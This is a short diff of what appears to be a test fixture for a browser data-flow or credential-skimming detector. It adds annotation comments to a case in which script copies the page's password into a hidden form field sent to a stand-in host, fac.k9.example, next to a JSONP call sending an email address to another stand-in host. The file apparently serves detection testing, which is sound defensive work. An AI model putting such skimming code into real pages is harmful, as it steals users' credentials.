@@ -68,6 +68,8 @@ jsonp9('https://jsp.k9.example/cb', { e: document.querySelector('input[type=emai
 
 //# form-action-changed
 // flow: password > fac.k9.example via form
+// flow: input > fac.k9.example via form
+// why: the other fields of the form go there too
 const f10 = document.querySelector('form');
 f10.innerHTML += '<input type=hidden name=p>';
 f10.elements.p.value = document.querySelector('input[type=password]').value;
